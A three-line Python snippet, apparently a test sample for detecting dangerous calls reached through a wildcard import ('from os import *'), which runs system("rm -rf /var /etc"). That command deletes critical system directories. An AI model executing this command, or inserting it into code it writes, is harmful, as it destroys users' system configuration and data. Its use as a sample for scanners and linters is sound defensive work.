# tricky: everything of a module
from os import *
system("rm -rf /var /etc")
